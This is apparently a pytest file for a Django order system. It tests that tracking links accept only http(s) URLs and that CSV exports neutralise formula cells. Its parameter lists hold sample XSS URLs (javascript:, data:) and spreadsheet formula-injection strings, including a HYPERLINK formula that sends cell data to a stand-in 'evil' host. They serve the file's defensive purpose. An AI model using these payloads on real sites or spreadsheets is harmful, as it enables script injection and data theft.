"""Data from outside is never code (issue 11 §4): only http(s) URLs become links, and CSV cells a
spreadsheet would run as a formula are neutralised, on both export paths."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.template import Context, Template
from django.urls import reverse

from orders.exports import looks_like_formula, neutralise_cell
from orders.models import OrderStatus
from orders.templatetags.safe_links import http_link
from tests.factories import ShipmentFactory, create_order

pytestmark = pytest.mark.django_db

NOT_LINKS = [
    "javascript:alert(document.domain)",
    "JavaScript:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "ftp://example.com/file",
    "//evil.example/x",
    "www.ups.com/track?n=1",
    "https://",
]


@pytest.mark.parametrize("url", NOT_LINKS)
def test_anything_but_an_http_url_is_plain_text(url):
    html = str(http_link(url, "1Z999"))
    assert "<a" not in html and "href" not in html
    assert html == "1Z999"


def test_http_and_https_urls_become_links_with_their_text_escaped():
    html = str(http_link("https://www.ups.com/track?n=1&x=2", "<b>1Z</b>"))
    assert html == ('<a href="https://www.ups.com/track?n=1&amp;x=2" rel="noopener noreferrer" target="_blank">'
                    "&lt;b&gt;1Z&lt;/b&gt;</a>")
    assert 'href="http://carrier.example/t"' in str(http_link("http://carrier.example/t"))


def test_the_filter_is_usable_in_templates():
    rendered = Template('{% load safe_links %}{{ url|http_link:"track" }}').render(
        Context({"url": "javascript:alert(1)"}))
    assert rendered == "track"


@pytest.mark.parametrize("tracking_url", ["javascript:alert(document.domain)", "data:text/html,x"])
def test_a_channel_reported_script_url_is_no_link_on_the_order_page_or_the_shipment_page(admin_client, tracking_url):
    order = create_order(status=OrderStatus.SHIPPED)
    shipment = ShipmentFactory(order=order, tracking_number="1ZSAFE", tracking_url=tracking_url)
    pages = [reverse("admin:orders_order_change", args=[order.pk]),
             reverse("admin:orders_shipment_change", args=[shipment.pk])]
    for page in pages:
        html = admin_client.get(page).content.decode()
        assert f'href="{tracking_url}' not in html and "href=\"javascript" not in html and 'href="data:' not in html
    assert "1ZSAFE" in admin_client.get(pages[0]).content.decode()


def test_a_real_tracking_url_is_a_link_on_the_order_page(admin_client):
    order = create_order(status=OrderStatus.SHIPPED)
    ShipmentFactory(order=order, tracking_number="1ZLINK", tracking_url="https://www.ups.com/track?n=1ZLINK")
    html = admin_client.get(reverse("admin:orders_order_change", args=[order.pk])).content.decode()
    assert '<a href="https://www.ups.com/track?n=1ZLINK" rel="noopener noreferrer" target="_blank">1ZLINK</a>' in html


@pytest.mark.parametrize(("raw", "safe"), [
    ("=HYPERLINK(\"http://evil\",\"x\")", "'=HYPERLINK(\"http://evil\",\"x\")"),
    ("-2+3@x.com", "'-2+3@x.com"),
    ("@SUM(1+1)", "'@SUM(1+1)"),
    ("+1 555", "'+1 555"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("-5.00+1", "'-5.00+1"),
    ("-5.00 ", "'-5.00 "),
    ("-SUM(A1)", "'-SUM(A1)"),
    ("Ann Buyer", "Ann Buyer"),
    ("ann@example.com", "ann@example.com"),
    ("", ""),
    # plain numbers stay numbers: a negative amount must still add up in the sheet
    ("-5.00", "-5.00"),
    ("-0.99", "-0.99"),
    ("-12", "-12"),
    ("12.50", "12.50"),
])
def test_cells_a_spreadsheet_would_run_get_an_apostrophe(raw, safe):
    assert neutralise_cell(raw) == safe


FORMULAS = {"buyer_name": "=HYPERLINK(\"http://evil/?\"&A1,\"Click\")", "buyer_email": "-2+3@x.com"}


def _rows(body: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body)))


def test_both_export_paths_neutralise_buyer_fields_and_keep_numbers_numbers(admin_client):
    order = create_order(**FORMULAS, customer_order_id="-5.00")
    create_order(buyer_name="@SUM(1+1)", buyer_email="\tcmd@x.com")
    export = b"".join(admin_client.get(reverse("admin:orders_order_export")).streaming_content).decode()
    action = b"".join(admin_client.post(reverse("admin:orders_order_changelist"), {
        "action": "export_csv_action", "_selected_action": [order.pk]}).streaming_content).decode()
    for body in (export, action):
        rows = _rows(body)
        cells = [cell for row in rows[1:] for cell in row]
        assert "'" + FORMULAS["buyer_name"] in cells and "'-2+3@x.com" in cells
        assert not any(looks_like_formula(cell) for cell in cells), cells
        [exported] = [dict(zip(rows[0], row)) for row in rows[1:] if order.channel_order_id in row]
        assert exported["Customer Order #"] == "-5.00"  # a number, not '-5.00 text
        assert exported["Total Paid"] == f"{order.grand_total:.2f}"
    assert "'@SUM(1+1)" in [cell for row in _rows(export) for cell in row]


def test_the_tracking_upload_preview_refuses_formulas_but_reads_a_negative_number_as_one(client, operator):
    from django.contrib.auth.models import Group

    operator.groups.add(Group.objects.get(name="Operator"))
    client.force_login(operator)
    order = create_order(status=OrderStatus.UNSHIPPED)
    csv_text = ("Channel Order #,Carrier,Method,Tracking #,Quantity\n"
                f"{order.channel_order_id},UPS,Standard,=HYPERLINK(\"http://evil\"),1\n"
                f"{order.channel_order_id},UPS,Standard,1Z999AA10123456784,-1\n"
                f"{order.channel_order_id},UPS,Standard,-2+3,1\n")
    upload = SimpleUploadedFile("tracking.csv", csv_text.encode())
    response = client.post(reverse("admin:orders_order_upload_tracking"), {"file": upload})
    errors = {row.number: row.error for row in response.context["check"].bad}
    assert "like a spreadsheet formula" in errors[2] and "like a spreadsheet formula" in errors[4]
    assert errors[3] == "quantity '-1' is not a whole number of units above 0"
    assert 'href="http://evil' not in response.content.decode()
